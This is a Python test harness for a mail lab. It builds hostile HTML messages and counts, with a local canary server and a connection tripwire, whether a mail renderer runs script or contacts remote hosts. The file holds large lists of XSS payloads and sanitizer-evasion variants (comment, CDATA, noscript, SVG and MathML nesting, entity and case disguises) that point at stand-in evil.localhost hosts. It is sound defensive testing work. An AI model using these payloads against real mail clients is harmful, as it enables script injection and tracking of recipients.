"""Hostile mail, and two canaries: one would notice if it ran or loaded, one if it only connected.

Each payload names itself in what it asks for. The canary is a web server of our own that
remembers what it was asked. A browser connects to a server before it asks for anything, and often
where it never asks: the tripwire counts connections.
"""

import base64
import contextlib
import re
import socket
import threading
import time
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

from playwright.sync_api import Error, Frame, Page

from smtplab.lab import Message

from .firefox import Firefox

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
# URL is the canary's address with the name of the payload; JS reports by the same address and
# marks the page around the frame.
JS = "new Image().src='URL';try{top.document.title='ran'}catch(e){};alert(1)"
PAYLOADS = {
    "script": f"<script>{JS}</script>",
    "script-src": "<script src='URL'></script>",
    "module": "<script type=module>import 'URL'</script>",
    "img-onerror": f'<img src="data:," onerror="{JS}">',
    "img-remote": "<img src='URL'>",
    "img-srcset": "<img srcset='URL 1x'>",
    "picture": "<picture><source srcset='URL'><img src='data:,'></picture>",
    "svg-onload": f'<svg onload="{JS}"><rect width=9 height=9 /></svg>',
    "svg-image": "<svg><image href='URL' width=9 height=9 /><use href='URL#x'/></svg>",
    "svg-script": f"<svg><script>{JS}</script></svg>",
    "svg-animate": f'<svg><animate attributeName=x dur=1s onbegin="{JS}" /></svg>',
    "css-import": "<style>@import url('URL');</style>",
    "css-background": "<p style='background:url(URL)'>x</p>",
    "css-font": "<style>@font-face{font-family:q;src:url(URL)}</style><p style='font:2em q'>x",
    "css-content": "<style>p::after{content:url(URL)}</style><p>x</p>",
    "link-stylesheet": "<link rel=stylesheet href='URL'>",
    "link-prefetch": "<link rel=prefetch href='URL'><link rel=preload as=image href='URL'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "meta-policy": "<meta http-equiv='Content-Security-Policy' content='img-src *'><img src='URL'>",
    "base": "<base href='URL/' target=_self><img src=x><a href='y'>go</a>",
    "iframe": "<iframe src='URL'></iframe>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{JS}</script><img src=URL>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{JS}"></iframe>',
    "object": "<object data='URL'></object><embed src='URL'>",
    "video": f'<video autoplay src=URL poster=URL onerror="{JS}"></video><audio src=URL autoplay>',
    "form": "<form action='URL' method=post><input name=a autofocus><button>go</button></form>",
    "form-get": "<form action='URL' target=_top><input type=submit value=go></form>",
    "input-image": "<form action='URL'><input type=image src='URL' alt=go></form>",
    "autofocus": f'<input autofocus onfocus="{JS}"><details open ontoggle="{JS}">x</details>',
    "link-self": "<a href='URL' target=_self>go</a>",
    "link-top": "<a href='URL' target=_top>go</a><a href='URL' target=_parent>go</a>",
    "link-blank": "<a href='URL' target=_blank>go</a><a href='URL' ping='URL'>go</a>",
    "link-entity": "<a/href='URL'/target\t=\n'&#95;self'>go</a>",
    "link-javascript": f'<a href="javascript:{JS}" target=_self>go</a>',
    "link-svg": "<svg width=90 height=30><a href='URL' target=_self><text y=20>go</text></a></svg>",
    "link-xlink": "<svg width=90 height=30><a xlink:href='URL'><text y=20>go</text></a></svg>",
    "area": "<img src='data:,' usemap=#m width=50 height=30 alt=go>"
    "<map name=m><area shape=default href='URL' target=_self></map>",
    "download": "<a href='data:text/html,x' download=x.html>go</a>",
    "break-out": f"</iframe></div></details></style>--><script>{JS}</script><img src='URL'>",
    "break-quote": f"\"'><script>{JS}</script><img src='URL' onerror=\"{JS}\">",
    "mathml": "<math><mtext><a href='URL' target=_self>go</a></mtext></math>",
}  # fmt: skip

# What makes a browser connect or look up a name although a policy forbids to load it, and ways to
# bring that past a reader of HTML who reads otherwise than a browser. F stands for the frame.
F = "<iframe src='URL'></iframe>"
CONNECTING = {
    "iframe": F,
    "odd-case": "<IfRaMe SrC='URL'></iFrAmE>",
    "slash": "<iframe/src='URL'/></iframe>",
    "line-ends": "<iframe\r\n\tsrc\n=\n'URL'\n>",
    "unquoted": "<iframe src=URL></iframe>",
    "relative-scheme": "<iframe src='//HOST/'></iframe>",
    "entities": "<iframe src='&#104;ttps&colon;//HOST/'></iframe>",
    "blanks-in-address": "<iframe src=' \tht\ntps:/\\HOST/'></iframe>",
    "not-closed": "<iframe src='URL'",
    "zero-octet": "<ifr\0ame src='URL'></iframe><iframe\0 src='URL'>",
    "lazy": "<iframe loading=eager fetchpriority=high src='URL'></iframe>",
    "frame": "<frameset><frame src='URL'></frameset>",
    "frame-alone": "<frame src='URL'>",
    "srcdoc": f'<iframe srcdoc="{F}"></iframe>',
    "srcdoc-twice": "<iframe srcdoc=\"<iframe srcdoc='&lt;iframe src=URL&gt;'>\"></iframe>",
    "srcdoc-link": '<iframe srcdoc="<link rel=preconnect href=URL>"></iframe>',
    "srcdoc-refresh": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;URL'>\"></iframe>",
    "base-iframe": "<base href='URL'><iframe src=x></iframe>",
    "base-frame": "<base href='URL'><frameset><frame src=x></frameset>",
    "base-image": "<BASE/href='URL'><img src=x><link rel=stylesheet href=x>",
    "base-in-body": "<p>x<base href='URL'><iframe src=x></iframe>",
    "comment": f"<!-->{F}-->",
    "comment-dash": f"<!--->{F}-->",
    "comment-bang": f"<!-- --!>{F}-->",
    "comment-question": f"<?xml version='1'>{F}?>",
    "comment-conditional": f"<!--[if mso]><p><![endif]--><!--[if !mso]><!-->{F}<!--<![endif]-->",
    "comment-inside": f"<!-- {F} -->",
    "cdata": f"<![CDATA[>{F}]]>",
    "cdata-svg": f"<svg><![CDATA[</svg>]]></svg>{F}<svg><![CDATA[{F}]]></svg>",
    "noscript": f"<noscript>{F}</noscript>",
    "noscript-head": "<head><noscript><link rel=preconnect href='URL'></noscript></head>",
    "noscript-attribute": f'<noscript><p title="</noscript>{F}"></noscript>',
    "template": f"<template>{F}</template>",
    "template-shadow": f"<div><template shadowrootmode=open>{F}</template></div>",
    "noembed": f"<noembed>{F}</noembed><noframes>{F}</noframes>",
    "raw-text": f"<xmp></xmp>{F}</xmp><textarea></textarea>{F}</textarea>",
    "title": f"<title></title>{F}</title>",
    "plaintext": f"{F}<plaintext>{F}",
    "select": f"<select>{F}<option>{F}</select>",
    "table": f"<table>{F}<tr>{F}<td>{F}</table>",
    "formatting": f"<b><a href='#'><p></b>{F}<b/src='URL'><font><iframe/src='URL'></a>",
    "attribute": f'<p title="</p>{F}" alt="{F}">x</p><b title="</b>{F}">x</b>',
    "style-end": f"<style></style\t>{F}</style>",
    "style-string": r'<style>p::after{content:"\3c/style>\3ciframe src=URL>"}</style><p>x',
    "style-comment": f"<style><!--</style>{F}--></style>",
    "style-media": "<style media='print{}</style><iframe src=URL>'>p{}</style>",
    "style-attribute": "<p style=\"a:'</style></p><iframe src=URL>'\">x",
    "script-double": f"<script><!--<script></script>{F}</script>{F}",
    "svg-foreign": f"<svg><foreignObject>{F}</foreignObject></svg>",
    "svg-title": f"<svg></p><title><style></title>{F}</style></svg>",
    "svg-style": f"<svg><style>{F}</style></svg>",
    "svg-iframe": "<svg><iframe src='URL'/><image href='URL'/><feImage href='URL'/></svg>",
    "svg-use": "<svg><use href='URL#a'/><script href='URL'/></svg>",
    "svg-picture": "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22>"
    "<image href=%22URL%22/></svg>'>",
    "math": f"<math><mtext>{F}</mtext><annotation-xml encoding='text/html'>{F}</math>",
    "math-style": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;iframe src=URL&gt;'>",
    "preconnect": "<link rel=preconnect href='URL'>",
    "preconnect-case": "<LINK/REL='x PreConnect'/HREF='URL'/CROSSORIGIN>",
    "dns-prefetch": "<meta http-equiv=x-dns-prefetch-control content=on>"
    "<link rel=dns-prefetch href='URL'>",
    "prefetch": "<link rel='prefetch prerender next' href='URL'>",
    "preload": "<link rel=preload as=style href='URL'><link rel=modulepreload href='URL'>",
    "icon": "<link rel='icon apple-touch-icon' href='URL'><link rel=manifest href='URL'>",
    "meta-link": "<meta http-equiv=Link content='<URL>; rel=preconnect'>",
    "refresh": "<META HTTP-EQUIV='Refresh' CONTENT='0;URL=URL'>",
    "speculation": '<script type=speculationrules>{"prerender":[{"urls":["URL"]}]}</script>',
    "object": "<object data='URL' type=text/html></object>",
    "object-fallback": f"<object>{F}</object><applet archive='URL' code=x>{F}</applet>",
    "embed": "<embed src='URL' type=text/html>",
    "portal": "<portal src='URL'></portal><fencedframe src='URL'></fencedframe>",
    "media": "<video src='URL' poster='URL'><source src='URL'><track src='URL'></video>",
    "picture-names": "<image src='URL'><img lowsrc='URL' dynsrc='URL' longdesc='URL' srcset='URL'>",
    "background": "<body background='URL'><table background='URL'><tr><td background='URL'>x",
    "css-escape": r"<style>@\69mport 'URL';p{background:\75rl(URL)}</style><p>x",
    "css-import-plain": "<style>@import 'URL' layer(x) supports(display:block);</style>",
    "css-image-set": "<p style=\"background:image-set('URL' 1x)\">x"
    "<p style=\"--u:'URL';background:-webkit-image-set(var(--u) 1x)\">x",
    "css-comment": "<p style='background:url/**/(URL);list-style:ur/**/l(URL);cursor:url(URL)'>",
    "css-namespace": "<style>@namespace url(URL);@font-face{font-family:a;src:url(URL)}"
    "p{font:1em a}</style><p>x",
    "link": "<a href='URL' ping='URL'>go</a><q cite='URL'>x</q>",
}


def letters() -> dict[str, str]:
    """These by name. Each asks for a host of its own, in a domain that is this machine."""
    return {name: payload.replace("URL", "https://HOST/").replace("HOST", f"{name}.evil.localhost")
            for name, payload in CONNECTING.items()}  # fmt: skip


# One of each kind of thing that names another place, and one of each way to bring it past a reader
# of HTML who reads otherwise than a browser: together they are some two thousand letters.
KINDS = {
    "iframe": F,
    "frame": "<frameset><frame src='URL'></frameset>",
    "srcdoc": "<iframe srcdoc='&lt;iframe src=URL&gt;'></iframe>",
    "srcdoc-in-srcdoc": "<iframe srcdoc='"
    "&lt;iframe srcdoc=\"&amp;lt;img src=URL&amp;gt;\"&gt;'></iframe>",
    "portal": "<portal src='URL'></portal>",
    "fencedframe": "<fencedframe src='URL'></fencedframe>",
    "webview": "<webview src='URL'></webview><controlledframe src='URL'></controlledframe>",
    "object": "<object data='URL' type='text/html' codebase='URL'></object>",
    "param": "<object><param name='movie' value='URL'></object>",
    "embed": "<embed src='URL' pluginspage='URL'>",
    "applet": "<applet code='x' codebase='URL' archive='URL'></applet>",
    "layer": "<layer src='URL'></layer><ilayer src='URL'></ilayer><bgsound src='URL'>",
    "base": "<base href='URL'><img src='x'><a href='y'>go</a>",
    "stylesheet": "<link rel='stylesheet' href='URL'>",
    "import": "<link rel='import' href='URL'><link rel='manifest' href='URL'>",
    "icon": "<link rel='shortcut icon' href='URL'><link rel='apple-touch-icon' href='URL'>",
    "preload": "<link rel='preload' as='image' href='URL' imagesrcset='URL 1x'>",
    "modulepreload": "<link rel='modulepreload' href='URL'>",
    "prefetch": "<link rel='prefetch' href='URL'><link rel='prerender' href='URL'>",
    "preconnect": "<link rel='preconnect' href='URL'>",
    "dns-prefetch": "<link rel='dns-prefetch' href='URL'><a href='URL'>go</a>",
    "refresh": "<meta http-equiv='refresh' content='0;url=URL'>",
    "meta-link": "<meta http-equiv='link' content='<URL>; rel=preconnect'>",
    "meta-image": "<meta name='msapplication-TileImage' content='URL'>",
    "html-manifest": "<html manifest='URL'><body background='URL'>x",
    "script": "<script src='URL'></script>",
    "speculation": "<script type='speculationrules'>{\"prefetch\":[{\"urls\":[\"URL\"]}]}</script>",
    "importmap": "<script type='importmap'>{\"imports\":{\"x\":\"URL\"}}</script>",
    "img": "<img src='URL' lowsrc='URL' longdesc='URL' srcset='URL 1x' attributionsrc='URL'>",
    "image": "<image src='URL'><input type='image' src='URL'>",
    "picture": "<picture><source srcset='URL'><img></picture>",
    "video": "<video src='URL' poster='URL' autoplay><track src='URL' default></video>",
    "audio": "<audio autoplay><source src='URL'></audio>",
    "model": "<model src='URL'><source src='URL'></model>",
    "table": "<table background='URL'><tr><td background='URL'>x</table>",
    "form": "<form action='URL'><button formaction='URL'>x</button></form>",
    "link": "<a href='URL' ping='URL' attributionsrc='URL' target='_top'>go</a>",
    "area": "<map name='m'><area shape='default' href='URL'></map>",
    "cite": "<blockquote cite='URL'><q cite='URL'><ins cite='URL'>x</ins></q></blockquote>",
    "svg-image": "<svg><image href='URL' xlink:href='URL'/></svg>",
    "svg-use": "<svg><use href='URL#x' xlink:href='URL#x'/></svg>",
    "svg-filter": "<svg><filter id='f'><feImage href='URL'/></filter></svg>",
    "svg-link": "<svg><a href='URL' xlink:href='URL'><text>go</text></a></svg>",
    "svg-set": "<svg><image><set attributeName='href' to='URL'/></image></svg>",
    "svg-style": "<svg><style>@import 'URL'; rect{fill:url(URL)}</style><rect/></svg>",
    "svg-fill": "<svg><rect fill='url(URL#x)' mask='url(URL#x)' style='filter:url(URL#x)'/></svg>",
    "svg-script": "<svg><script href='URL' xlink:href='URL'/></svg>",
    "math": "<math href='URL' xlink:href='URL'><mtext>x</mtext></math>",
    "math-action": "<math><maction actiontype='statusline#URL' href='URL'>x</maction></math>",
    "css-import": "<style>@import 'URL'; @import url(URL) screen;</style>",
    "css-url": "<style>p{background:url(URL);cursor:url('URL'),auto;filter:url(URL)}</style><p>x",
    "css-set": "<style>p{background:image-set('URL' 1x, url(URL) 2x)}</style><p>x",
    "css-old-set": "<style>p{background:-webkit-image-set(url(URL) 1x)}</style><p>x",
    "css-fade": "<style>p{background:-webkit-cross-fade(url(URL),url(URL),50%)}</style><p>x",
    "css-image": "<style>p{background:image('URL');mask:src('URL')}</style><p>x",
    "css-font": "<style>@font-face{font-family:f;src:url(URL)}p{font:1em f}</style><p>x",
    "css-in-rules": "<style>@media all{@supports (a:b){p{background:url(URL)}}}</style><p>x",
    "css-later": "<style>@layer{p{&:hover{background:url(URL)}}}@namespace url(URL);</style><p>x",
    "css-variable": "<style>p{--u:url(URL);background:var(--u)}"
    "@property --u{initial-value:url(URL)}</style>",
    "css-escape": r"<style>@\69 mport 'URL';p{background:\75\72\6c(URL)}</style><p>x",
    "css-here": "<p style='background:url(URL)'>x<p style='background:image-set(\"URL\" 1x)'>x",
    "css-binding": "<p style='-moz-binding:url(URL);behavior:url(URL);filter:url(URL#x)'>x",
}  # fmt: skip
DISGUISES: dict[str, Callable[[str], str]] = {
    "plain": lambda html: html,
    "odd case": lambda html: re.sub(
        r"(?<=[</ ])[a-z]+(?=[ >=/])", lambda m: m[0][0].upper() + m[0][1:].swapcase(), html
    ),
    "slash": lambda html: re.sub(r" (?=[a-z:-]+=)", "/", html),
    "blanks": lambda html: re.sub(r" (?=[a-z:-]+=)", "\t\f\r\n ", html).replace("='", " \n=\t'"),
    "double quotes": lambda html: html.replace('"', "&quot;").replace("'", '"'),
    "no quotes": lambda html: re.sub(r"='(\S+?)'", r"=\1", html),
    "entities": lambda html: html.replace("URL", "&#104;ttps&colon;&sol;/HOST/"),
    "no scheme": lambda html: html.replace("URL", "//HOST/"),
    "back slashes": lambda html: html.replace("URL", "https:\\\\HOST/"),
    "blank before the address": lambda html: html.replace("'URL", "'\x01 \tURL"),
    "twice": lambda html: re.sub(r" ([a-z]+)='", r" \1='data:,' \1='URL' \1='", html),
    "never closed": lambda html: re.sub(r"</[a-z]+>", "", html),
    "cut": lambda html: html.rpartition(">")[0],
    "zero octets": lambda html: html.replace("<", "<\0").replace("='", "\0='") + html,
    "in a head": lambda html: f"<!doctype html><html><head>{html}</head><body>x",
    "in a body": lambda html: f"</head></body></html>{html}",
    "short comment": lambda html: f"<!-->{html}<!--->{html}-->",
    "bang comment": lambda html: f"<!-- --!>{html}<!-- -- >{html}-->",
    "comment in a comment": lambda html: f"<!-- <!-- -->{html}-->",
    "condition": lambda html: f"<!--[if gte IE 4]><![endif]-->{html}<![if !IE]>{html}<![endif]>",
    "processing": lambda html: f"<?xml-stylesheet href='URL'?><?x >{html}?>",
    "cdata": lambda html: f"<![CDATA[>{html}]]>",
    "cdata in svg": lambda html: f"<svg><![CDATA[</svg>{html}]]></svg>{html}",
    "noscript": lambda html: f"<noscript>{html}</noscript>",
    "noscript ends": lambda html: f'<noscript><p title="</noscript>{html}">',
    "template": lambda html: f"<template shadowrootmode='open'>{html}</template>{html}",
    "noembed": lambda html: f"<noembed>{html}</noembed><noframes>{html}</noframes>{html}",
    "raw text": lambda html: f"<xmp>{html}</xmp><textarea>{html}</textarea><title>{html}</title>",
    "raw text ends": lambda html: f"<textarea></textarea>{html}<title></title>{html}</textarea>",
    "listing": lambda html: f"<listing>{html}</listing><plaintext>{html}",
    "select": lambda html: f"<select>{html}<option>{html}</select>",
    "table": lambda html: f"<table>{html}<tr>{html}<td>{html}</table>",
    "formatting": lambda html: f"<b><a href='#'><p></b>{html}</a><font><i>{html}",
    "button": lambda html: f"<button>{html}</button><dialog open>{html}</dialog>",
    "attribute": lambda html: f'<p title="</p>{html.replace(chr(34), "")}">x</p>',
    "attribute that ends": lambda html: f'<p title=\'"\'{html}"><p title="\'">{html}',
    "style": lambda html: f"<style></style\t>{html}<style><!--</style>{html}--></style>",
    "script": lambda html: f"<script><!--<script></script>{html}--></script>{html}",
    "foreign object": lambda html: f"<svg><foreignObject>{html}</foreignObject></svg>",
    "svg title": lambda html: f"<svg><title><style></title>{html}</style></svg>{html}",
    "svg desc": lambda html: f"<svg></p><desc>{html}</desc></svg>",
    "math text": lambda html: f"<math><mtext>{html}<mglyph><style><!--</style>{html}</math>",
    "annotation": lambda html: f"<math><annotation-xml encoding='text/html'>{html}</math>",
}


def disguised(kind: str) -> dict[str, str]:
    """Letters of one kind, by their disguise. They ask for a host of its own."""
    host = f"{kind}.evil.localhost"
    return {name: wrap(KINDS[kind]).replace("URL", "https://HOST/").replace("HOST", host)
            for name, wrap in DISGUISES.items()}  # fmt: skip


class Tripwire:
    """A port that counts who connects, whatever they then say or do not say.

    `rules` makes Chromium take it for every server that is not this machine itself.
    """

    def __init__(self) -> None:
        self.seen: list[str] = []  # of each connection, the host or the first that it said
        self.pages = 0
        self.server = socket.create_server(("127.0.0.1", 0), backlog=200)
        self.port: int = self.server.getsockname()[1]
        # Chromium asks its maker for updates.
        own = "MAP *.googleapis.com ~NOTFOUND, MAP *.google.com ~NOTFOUND"
        self.rules = f"--host-resolver-rules={own}, MAP * 127.0.0.1:{self.port}, EXCLUDE 127.0.0.1"
        self.thread = threading.Thread(target=self._serve)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            connection, _ = self.server.accept()
            with connection:
                connection.settimeout(2)
                try:
                    said = connection.recv(8_192)
                except (TimeoutError, ConnectionError):
                    said = b""
            if said == b"end":
                return
            # A TLS handshake and a request name the host.
            host = re.search(rb"([a-z0-9-]+)\.evil\.localhost", said)
            self.seen.append(host[1].decode() if host else repr(said[:200]))

    def touched(self, page: Page | Firefox) -> set[str]:
        """Who has connected since the last call, until now: the page connects last, and is seen."""
        self.pages += 1
        last = f"last-{self.pages}"
        page.evaluate(f"{{new Image().src = 'https://{last}.evil.localhost/'}}")
        until = time.monotonic() + 30
        while last not in self.seen:
            assert time.monotonic() < until, "the tripwire does not see what connects"
            time.sleep(0.02)
        seen, self.seen = self.seen, []
        return {name for name in seen if not name.startswith("last-")}

    def close(self) -> None:
        with socket.create_connection(self.server.getsockname()) as connection:
            connection.sendall(b"end")
        self.thread.join()
        self.server.close()


class Canary:
    """A web server that serves one page and remembers everything else that reaches it."""

    def __init__(self) -> None:
        self.page = ""
        self.asked: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                own = self.path == "/"
                if not own and self.path != "/favicon.ico":
                    canary.asked.append(self.path)
                body = canary.page.encode() if own else b"/* canary */"
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8" if own else "text/css")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.01,))
        self.thread.start()
        self.address = f"http://127.0.0.1:{self.server.server_port}"

    def payload(self, name: str) -> str:
        return PAYLOADS[name].replace("URL", f"{self.address}/{name}")

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


def hostile(payload: str) -> Message:
    """One message with the payload wherever a mail can put text."""
    word = f"=?utf-8?b?{base64.b64encode(payload.encode()).decode()}?="
    raw = (
        f"Subject: {word}\r\nFrom: {word} <lin@lab.test>\r\nTo: {word} <you@lab.test>\r\n"
        f"X-{quote(payload, safe='')}: {payload!r}\r\n"
        "Content-Type: multipart/related; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{payload}\r\n"
        f"--b\r\nContent-Type: text/plain\r\n\r\n{payload}\r\n"
        "--b\r\nContent-Type: image/png\r\n"
        f"Content-ID: <{quote(payload, safe='')}>\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{quote(payload, safe='')}\r\n\r\n"
        "no picture\r\n--b--\r\n"
    )
    return Message(payload, [payload], raw.encode(), 1)


def together(letters: list[str]) -> str:
    """One message with several texts, each of which a mail program shows."""
    parts = (f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{one}\r\n" for one in letters)
    return f"Content-Type: multipart/mixed; boundary=b\r\n\r\n{''.join(parts)}--b--\r\n"


def click_everything(frame: Frame) -> int:
    """Use all that can be used, by mouse and by keyboard; return how often that was possible.

    A click may take the frame away.
    """
    used = 0
    with contextlib.suppress(Error):
        for thing in frame.locator("a, area, button, input, img, text").all():
            with contextlib.suppress(Error):
                thing.click(force=True, timeout=200, no_wait_after=True)
                used += 1
        for thing in frame.locator("a, area, button, input").all():
            with contextlib.suppress(Error):
                thing.press("Enter", timeout=200, no_wait_after=True)
                used += 1
    return used
